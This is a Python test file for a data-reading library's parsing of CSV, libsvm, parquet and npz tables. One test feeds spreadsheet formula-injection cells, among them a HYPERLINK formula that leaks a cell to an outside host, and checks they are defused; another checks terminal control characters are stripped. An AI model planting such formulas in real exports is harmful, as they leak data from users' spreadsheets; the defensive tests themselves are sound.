"""One reader of text, sparse text and arrays, and what a table's columns become: numbers, categories and text."""

import csv
import gzip
import io
import lzma
import time
from contextlib import suppress
from dataclasses import replace

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from cases import each
from hostile_files import GOOD, npz, parquet
from hypothesis import given, settings
from hypothesis import strategies as st
from own_tables import iris_table, lines, own_spec, read, read_sniffed, sniff, sniff_file, table
from sklearn.datasets import dump_svmlight_file

from dsgcore import QSGS2AUC
from dsgcore.__main__ import main
from dsgcore.data import DataError, rows_of
from dsgcore.data.converting import convert_file
from dsgcore.data.reading import DELIMITERS, LOCAL, File, Recipe, Source, features, parse, svmlight
from dsgcore.experiments import load_split

N = 60
KIND = ["wheat", "rye"] * (N // 2)
WORDS = ["plain", "two words", 'a "quoted" one', "semi;colon", "comma, and bar|", "grün", "déjà vu"]


@settings(max_examples=80)
@given(data=st.data(), delimiter=st.sampled_from(list(DELIMITERS)))
def test_a_table_written_in_any_dialect_is_read_back_equal(data, delimiter):
    n = data.draw(st.integers(12, 30))
    decimal = "." if delimiter in (",", " ") else data.draw(st.sampled_from([".", ","]))
    missing = data.draw(st.sampled_from(["NA", "?", "null"] if delimiter == " " else ["", "NA", "?", "null"]))
    sizes = data.draw(st.lists(st.integers(-99_999, 99_999), min_size=n, max_size=n))
    is_missing = data.draw(st.lists(st.booleans(), min_size=n, max_size=n).filter(lambda given: sum(given) < n / 2))
    words = data.draw(st.lists(st.sampled_from(WORDS), min_size=n, max_size=n))
    has_names = data.draw(st.booleans())
    rows = [["size", "count", "note", "kind"]] if has_names else []
    for i in range(n):
        size = missing if is_missing[i] else f"{sizes[i] / 100:.2f}".replace(".", decimal)
        rows.append([size, i % 7, words[i], KIND[i]])
    written = io.StringIO(newline="")
    how = data.draw(st.sampled_from([{}, {"quoting": csv.QUOTE_ALL}, {"escapechar": "\\", "doublequote": False}]))
    newline = data.draw(st.sampled_from(["\n", "\r\n", "\r"]))
    csv.writer(written, delimiter=delimiter, lineterminator=newline, **how).writerows(rows)
    encoding = data.draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-32", "cp1252"]))
    file = File(Source.of_bytes(written.getvalue().encode(encoding), "t"), LOCAL)
    # A colon may also stand inside cells, so it is not guessed.
    known = {"delimiter": ":"} if delimiter == ":" else {}
    recipe = file.recipe("classes", target="kind" if has_names else "x4", **known)
    frame = file.table(recipe).frame
    assert recipe.header == has_names
    assert list(frame.columns) == (rows[0] if has_names else ["x1", "x2", "x3", "x4"])
    size, count, note, kind = (frame[name] for name in frame.columns)
    np.testing.assert_allclose(size, np.where(is_missing, np.nan, np.array(sizes) / 100))
    assert count.tolist() == [i % 7 for i in range(n)]
    assert (note.tolist(), kind.tolist()) == (words, KIND[:n])


# --- sparse text, arrays, and tables of lists


@each("n", [1, 50, 6])
def test_sparse_text_keeps_its_columns(n):
    content = b"# first\n1 qid:3 2:0.5 6:1 # a comment\n\n-1 1:2\n" * n
    dataset = read_sniffed(content, "a.svm")
    np.testing.assert_array_equal(dataset.X, [[0, 0.5, 0, 0, 0, 1], [2, 0, 0, 0, 0, 0]] * n)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(svmlight, "LINES", 3)
        np.testing.assert_array_equal(read_sniffed(content, "a.svm").X, dataset.X)
    without_first = read_sniffed(b"1 2:1 4:3\n2 3:1\n", "a.svm")  # its columns keep their places
    np.testing.assert_array_equal(without_first.X, [[0, 1, 0, 3], [0, 0, 1, 0]])
    zero_based = read_sniffed(b"1 0:1 2:3\n2 1:1\n", "a.svm")
    np.testing.assert_array_equal(zero_based.X, [[1, 0, 3], [0, 1, 0]])


def test_sparse_text_and_an_archive_give_the_points_of_a_table():
    X, y = iris_table()
    codes = np.unique(y, return_inverse=True)[1]
    sparse = io.BytesIO()
    dump_svmlight_file(X, codes, sparse, zero_based=False)
    arrays = npz(X=X, y=y, split=np.zeros(150), about=np.zeros(3), letters=np.array(["a"] * 150))
    for content in (sparse.getvalue(), arrays, gzip.compress(sparse.getvalue()), lzma.compress(arrays)):
        dataset = read_sniffed(content)
        np.testing.assert_array_equal(dataset.X, X.astype(np.float32))
        np.testing.assert_array_equal(dataset.y, codes)


@each("size", [16, 2**20])
def test_a_line_of_libsvm_text_has_its_number_whatever_the_pieces(size, monkeypatch):
    content = lines("# first", "", *(f"{i % 2} 1:{i} 2:0.5" for i in range(30)), "1 1:3 two:4")
    monkeypatch.setattr(parse, "PIECE", size)
    with pytest.raises(DataError, match=r"^line 33 must have whole indices"):
        read_sniffed(content, "t.svm")


@each("content, said", [
    (b"# 1 1:2\n# -1 2:1\n", r"the file has no rows"),
    (b"1 # a\n-1 # b\n1\n", r"no row has any index:value pair"),
    (b"1 qid:1 1:2\n-1 qid:1 2:1 x\n", r"line 2 must hold index:value pairs, got 'x'"),
    (b"1 1:2\n-1 2:1,5\n", r"line 2 must hold index:value pairs, got '2:1,5': write its decimal comma as a point"),
    (b"1 1:2\n-1 99:1\n", r"an index must be at most 9, got 99 \(.*line 2\): rows would be too wide"),
])  # fmt: skip
def test_what_a_person_calls_libsvm_text_and_is_none_is_refused_with_its_line(content, said):
    recipe = Recipe.from_dict({"format": "svmlight", "roles": {"label": "label"}})
    with pytest.raises(DataError, match=f"^{said}$"):
        read(content, recipe, limits=replace(LOCAL, columns=9))
    with pytest.raises(DataError, match=r"^the recipe must name its format, one of delimited, "):
        Recipe.from_dict({"roles": {"label": "label"}})


@each("names", [["x", "text", "list", "label"], ["x", "x", "list", "label"], ["x", "y", "x", "label"]])
def test_a_table_with_lists_is_read_whole_whatever_its_row_groups_and_names(names):
    columns = [np.arange(40.0), [f"word {i % 7}" for i in range(40)], [[i] for i in range(40)], np.arange(40) % 2]
    content = io.BytesIO()
    pq.write_table(pa.table([pa.array(column) for column in columns], names=names), content, row_group_size=10)
    frame = File(Source.of_bytes(content.getvalue(), "a.parquet")).table(Recipe(format="parquet")).frame
    np.testing.assert_array_equal(frame.iloc[:, 0], columns[0])
    assert [list(frame.iloc[:, 1]), list(frame.iloc[:, 3])] == [columns[1], list(columns[3])]
    assert (frame.iloc[:, 2] == "(nested)").all()


@each("content, recipe, said", [
    (GOOD, Recipe(roles=(("bogus", "ignore"), ("label", "label"))), "gives 'bogus' the role ignore"),
    (GOOD, Recipe(format="parquet"), "the recipe is for the format parquet, and the file is text"),
    (parquet(), Recipe(), "the recipe is for the format delimited, and the file is parquet"),
])  # fmt: skip
def test_a_recipe_for_columns_that_are_not_there_or_for_another_format_is_refused(content, recipe, said):
    with pytest.raises(DataError, match=said):
        read(content, recipe)


# --- what columns become: numbers, categories and text


SMALL = {"n_iter": 4, "n_features": 8, "batch_size": 8, "random_state": 0, "tol": None}


def frame(**more):
    a = np.random.default_rng(0).normal(size=N)
    return pd.DataFrame({"a": a, "b": a + np.arange(N) % 3, "label": (np.arange(N) % 3 == 0).astype(int)} | more)


NUMBERS = [f"{i},{'ab'[i % 2]}" for i in range(30)]


def test_pieces_and_runs_read_what_the_whole_does(tmp_path):
    # The first piece alone would be plain numbers, of another size.
    cells = ["1.234"] * 20 + ["1.234,5", "1.250.000,25"] * 10
    content = lines("price;label", *(f"{cell};{'ab'[i % 2]}" for i, cell in enumerate(cells)))
    recipe = sniff(content, "a.csv", labels="classes")
    whole = read(content, recipe, labels="classes")
    assert whole.X[0, 0] == 1234.0
    (tmp_path / "a.csv").write_bytes(content)
    assert sniff_file(tmp_path / "a.csv") == recipe
    convert_file(tmp_path / "a.csv", tmp_path / "out", recipe)
    file = File.of_path(tmp_path / "out")
    np.testing.assert_array_equal(file.prepared(file.recipe("classes"), "classes")[0].X, whole.X)
    spec, files = own_spec(content, recipe, scaling="none", n_labeled=10)
    assert load_split(spec, files=files).X_train.max() == np.float32(1250000.25)


# --- mistakes and missing cells


@each("kind", ["csv", "parquet", "npz", "bytes"])
def test_a_word_that_means_missing_is_said_and_an_option_says_otherwise(kind, tmp_path, capsys):
    own = frame(label=np.resize(["NA", "x", "y"], N).astype("S" if kind == "bytes" else str).astype(object))
    path = tmp_path / f"t.{'parquet' if kind == 'bytes' else kind}"
    if kind == "npz":
        np.savez(path, X=own[["a", "b"]], y=own.label.to_numpy().astype(str))
    else:
        own.to_csv(path, index=False) if kind == "csv" else own.to_parquet(path)
    said = f"Read as missing labels: 20 cells 'NA' (in '{'y' if kind == 'npz' else 'label'}')"
    for words, n_classes in ((), 2), (("--missing-words", "only"), 3), (("--missing-words", "-"), 2):
        assert main(["data", "describe", str(path), *words]) == 0
        printed = capsys.readouterr().out
        assert f"{n_classes} classes" in printed
        assert (said in printed) == (n_classes == 2)
    if kind == "parquet":
        assert rows_of(path, "label")[0].guesses == (f"{said}.",)
        assert len(set(rows_of(path, "label", missing_words=())[1].tolist())) == 3
        with pytest.warns(UserWarning, match="Read as missing labels: 20 cells"):
            QSGS2AUC(**SMALL).fit(path, "label")


@each("kind", ["csv", "svm"])
def test_a_folder_of_text_is_converted_whole_or_refused_by_the_name_of_a_file(kind, tmp_path_factory):
    folder = tmp_path_factory.mktemp("text")
    for number in range(3):
        own = frame().iloc[20 * number : 20 * number + 20].round(3)
        sparse = (f"{row.label:g} 1:{row.a} {2 + number}:{row.b}" for row in own.itertuples())
        text = lines(*sparse) if kind == "svm" else own.to_csv(index=False).encode()
        (folder / f"{number}.{kind}").write_bytes(text)
    out = folder.with_name(f"{folder.name}-parquet")
    assert convert_file(folder, out, sniff_file(folder / f"2.{kind}")) == N
    made = pd.read_parquet(out)
    assert made.shape == (N, 5 if kind == "svm" else 3)
    file = File.of_path(folder)
    read = file.table(file.sniff())
    pd.testing.assert_frame_equal(read.frame, made, check_dtype=False)
    assert read.notes == ("3 files of a folder are read as one table.",)
    for number in (0, 1):  # of two files, too, the one with the mistake is named
        (folder / f"{number}.{kind}").unlink()
    (folder / f"3.{kind}").write_bytes(lines("1 2:0.5 1:3") if kind == "svm" else lines("a,b", "1,2"))
    said = "line 1 must have increasing indices" if kind == "svm" else "its columns are not those of the first file"
    with pytest.raises(DataError, match=rf"^3\.{kind}: {said}"):
        convert_file(folder, out / "new", sniff_file(folder / f"2.{kind}"))
    with pytest.raises(DataError, match=rf"^3\.{kind}: {said}"):
        sniff_file(folder)
    (folder / f"3.{kind}").write_bytes(parquet())
    with pytest.raises(DataError, match=rf"^3\.{kind}: the recipe is for the format \w+, and the file is parquet"):
        sniff_file(folder)


@each("cells", [("5K", "7K", "2M", "900"), ("12 kg", "15 kg", "7 kg", "8 kg")])
def test_numbers_do_not_depend_on_the_pieces_of_a_table(cells, monkeypatch):
    content = "\n".join(["price,label", *(f"{cells[i // 20]},{'xy'[i % 2]}" for i in range(80))]).encode()
    whole = read_sniffed(content).X
    monkeypatch.setattr(features, "ROWS_AT_A_TIME", 20)
    np.testing.assert_array_equal(read_sniffed(content).X, whole)


@each("lines_above", ["|" * 2000, " " * 2000, "a" * 2000 + "|"])
@each("line", [" " * 3000, "-" * 3000, "-|" * 1500 + "x", "a|b\n-|-\n1|x\n" + " " * 300_000])
def test_whether_a_table_is_drawn_is_soon_known(lines_above, line):
    begin = time.process_time()
    with suppress(DataError):
        read_sniffed((f"{lines_above}\n{line}\n" if "\n" not in line else line).encode())
    assert time.process_time() - begin < 2.0


# --- roles of columns


def test_text_and_means_are_learned_from_training_rows_only():
    own = table()
    own.loc[::5, "size"] = np.nan
    content = parquet(frame=own)
    recipe = replace(sniff(content, "a.parquet"), text_dimensions=4)
    spec, files = own_spec(content, recipe, scaling="none")
    split = load_split(spec, files=files)
    names = read(content, recipe).feature_names
    assert len([name for name in names if name.startswith("note: direction")]) == 4
    train, size = own["size"].to_numpy()[split.train_rows], names.index("size")
    filled = split.X_test[np.isnan(own["size"].to_numpy()[split.test_rows]), size]
    np.testing.assert_allclose(filled, np.float32(np.nanmean(train)), rtol=1e-6)
    other = own.copy()  # other words in the test rows change no training point
    other.loc[split.test_rows, "note"] = "completely different words here"
    other.loc[split.test_rows, "size"] = 1e6
    changed, more = own_spec(parquet(frame=other), recipe, scaling="none")
    np.testing.assert_array_equal(load_split(changed, files=more).X_train, split.X_train)


# --- names that pages and spreadsheets show, and messages


def test_formulas_are_text_and_cannot_be_exported_as_formulas():
    formula, text = '=HYPERLINK("http://x/?"&A1)', io.StringIO()
    rows = [[formula if i % 2 else "+2", i, -i, "=A1" if i % 2 else "-1"] for i in range(20)]
    csv.writer(text).writerows([["=1+1", "@cmd", "-x", "label"], *rows])
    content = text.getvalue().encode()
    recipe = sniff(content, "a.csv")
    assert dict(recipe.roles) == {"=1+1": "category", "label": "label"}
    dataset = read(content, recipe)
    names = (*dataset.feature_names, *dataset.class_names)
    assert "'=1+1: 2" in names or "'=1+1: +2" in names
    assert not any(name.startswith(("=", "+", "@")) for name in names)
    assert dataset.class_names == ("-1", "'=A1")  # a number is one
    head = File(Source.of_bytes(content, "a.csv")).table(recipe).head()
    assert not any(cell.startswith(("=", "@", "-x")) for cell in [*map(str, head.columns), *head.to_numpy().ravel()])


def test_control_characters_never_reach_a_page():
    content = lines('"a\x1b[2J\u202e\nb",label', *(f"{i},{('x', chr(7) + 'y')[i % 2]}" for i in range(20)))
    dataset = read_sniffed(content)
    assert all(name.isprintable() for name in (*dataset.feature_names, *dataset.class_names, *dataset.report))


LONG = "q" * 100_000


@each(
    "given",
    [
        {"bins": LONG},
        {"roles": {"x": LONG}},
        {"roles": {LONG: "pair"}},
        {"positive": LONG},
        {"order": [LONG]},
        {LONG: 1},
    ],
)
def test_no_message_repeats_a_page_of_what_was_given(given):
    content = lines("x,label", *NUMBERS)
    plain = sniff(content, "a.csv").to_dict() | given | {"roles": {"label": "label"} | given.get("roles", {})}
    with pytest.raises(DataError) as refused:
        read(content, Recipe.from_dict(plain), labels="binary")
    assert len(str(refused.value)) < 400


# --- classes
